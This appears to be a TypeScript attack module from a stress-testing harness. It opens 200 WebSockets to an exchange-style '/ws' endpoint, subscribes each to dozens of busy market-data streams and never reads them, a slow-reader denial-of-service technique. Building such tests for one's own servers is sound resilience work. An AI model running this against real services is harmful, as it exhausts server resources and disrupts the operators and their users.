/** WebSockets subscribe to what sends most, and never read it. */
import type { Attack } from '../attack.ts'
import { frameBytes } from '../bytes.ts'

const SOCKETS = 200
const SYMBOLS = ['btcusdt', 'ethusdt', 'solusdt', 'bnbusdt', 'adausdt', 'ethbtc']
const KINDS = ['depth@100ms', 'depth20@100ms', 'trade', 'bookTicker', 'aggTrade', 'kline_1s']

export const slowReaders: Attack = {
  name: 'slow-readers',
  about: 'subscribes 200 sockets to all busy streams and never reads them',
  addresses: 1,
  run: (raid) => {
    const params = SYMBOLS.flatMap((symbol) => KINDS.map((kind) => `${symbol}@${kind}`))
    const subscribe = frameBytes(JSON.stringify({ method: 'SUBSCRIBE', params, id: 1 }))
    for (let i = 0; i < raid.size(SOCKETS); i++) {
      raid.webSocket(0, '/ws', { reads: false, onReady: (line) => line.write(subscribe) })
    }
  },
}
